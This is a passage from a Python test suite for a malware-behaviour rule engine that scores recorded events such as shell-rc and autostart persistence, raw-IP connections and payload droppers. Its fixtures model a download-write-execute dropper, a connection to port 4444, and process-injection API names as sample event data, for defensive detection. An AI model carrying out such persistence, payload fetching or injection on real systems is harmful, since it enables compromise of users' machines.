    [f] = [f for f in evaluate([w(f"{H}/.config/autostart/a.desktop", ok=False, err="EROFS")], CTX)
           if f.id == "persistence_autostart"]
    assert "attempt: EROFS" in f.detail


def test_one_finding_per_rule_with_a_count():
    events = [conn("203.0.113.10", p) for p in range(4000, 4010)]
    [f] = evaluate(events, CTX)
    assert f.id == "network_raw_ip" and f.severity == 6
    assert f.detail.count("203.0.113.10") == 3 and f.detail.endswith("(+7 more)")


def test_engine_reports_new_findings_once_and_in_order():
    eng = RuleEngine(CTX)
    assert [f.id for f in eng.feed(w(f"{H}/.bashrc"))] == ["persistence_shell_rc", "write_outside_workdir"]
    assert eng.feed(w(f"{H}/.bashrc")) == []
    assert [f.id for f in eng.findings()] == ["persistence_shell_rc", "write_outside_workdir"]


def test_resolved_name_is_in_the_detail_and_not_a_raw_ip():
    fs = evaluate([{"type": "dns", "name": "updates.example.test", "answer": "198.18.0.9"},
                   conn("198.18.0.9", 80),
                   {"type": "tcp", "ip": "198.18.0.9", "port": 80, "dst": "198.18.0.9:80",
                    "name": "updates.example.test"}], CTX)
    assert {f.id for f in fs} == {"dns_query", "network_resolved_host"}
    assert "updates.example.test -> 198.18.0.9:80" in next(f for f in fs if f.id == "network_resolved_host").detail


def test_scores_of_typical_combinations():
    dropper = [{"t": 1, "type": "dns", "name": "x.example", "answer": "198.18.0.1"}, conn("198.18.0.1", 80, t=1.1),
               {"t": 1.2, "type": "http", "method": "GET", "url": "http://x.example/p", "served": "payload"},
               w("/tmp/p", t=1.3), ex("/tmp/p", t=1.4)]
    assert score_findings(evaluate(dropper, CTX)) == ("malicious", 9)
    assert score_findings(evaluate([conn("203.0.113.10", 4444)], CTX)) == ("suspicious", 6)
    # a program that talks to a named host and does nothing else of note (nntplib.py's demo) is not suspicious
    talk = [{"type": "dns", "name": "news.gmane.io", "answer": "198.18.0.1"}, conn("198.18.0.1", 119)]
    assert score_findings(evaluate(talk, CTX)) == ("clean", 3)
    assert score_findings(evaluate([{"type": "dns", "name": "x.example"}], CTX)) == ("clean", 1)


EVENT = st.dictionaries(
    st.sampled_from(["t", "type", "op", "path", "path2", "pid", "ppid", "ip", "port", "argv", "name", "answer", "key",
                     "value", "ok", "err", "seconds", "src", "family", "socket", "request", "served", "native", "fn",
                     "args", "proc", "command", "standin", "standin_by", "message", "dst", "host", "sni", "method",
                     "body_bytes", "upload_files", "file", "create", "data"]),
    st.one_of(st.none(), st.booleans(), st.integers(-5, 70000), st.floats(allow_nan=True), st.text(max_size=30),
              st.lists(st.text(max_size=10), max_size=4),
              st.sampled_from(["file", "exec", "connect", "dns", "http", "reg_set", "image", "fork", "tcp",
                               "write", "rename", "/home/user/.bashrc", "203.0.113.1", "198.18.0.1", "wine", "api",
                               "exec_request", "reg_open", "reg_query", "smtp", "ftp", "irc", "tls", "listen",
                               "WriteProcessMemory", "CreateProcessA", "SetWindowsHookExA", "CopyFileA", "Sleep",
                               "STOR", "RETR", "pe_exe", "name", "payload", "/work/a.out", "/proc/self/exe",
                               "api.telegram.org", r"C:\users\user\Temp\a.exe", "0x4", "0xd"])),
    max_size=10)


@settings(max_examples=400, deadline=None)
@given(st.lists(EVENT, max_size=20))
def test_hostile_events_never_raise(events):
    for ctx in (CTX, WINDOWS, VIEWER, WSH, PROGRAM):
        eng = RuleEngine(ctx)
        for ev in events:
            eng.feed(ev)
        for f in eng.findings():
            assert 0 <= f.severity <= 10
        assert eng.errors == 0  # no rule raised on hostile input (the engine would have swallowed it)


def test_docs_table_lists_every_rule_with_its_severity():
    doc = (Path(__file__).resolve().parents[1] / "docs" / "guest-rules.md").read_text()
    rows = {m.group(1): int(m.group(2)) for m in re.finditer(r"^\|\s*`([a-z0-9_]+)`\s*\|\s*(\d+)\s*\|", doc, re.M)}
    expected = ({r.id: r.severity for r in RULES} | {c.id: c.severity for c in COMBOS}
                | {fid: sev for fid, sev, _ in ENGINE_FINDINGS})
    assert rows == expected
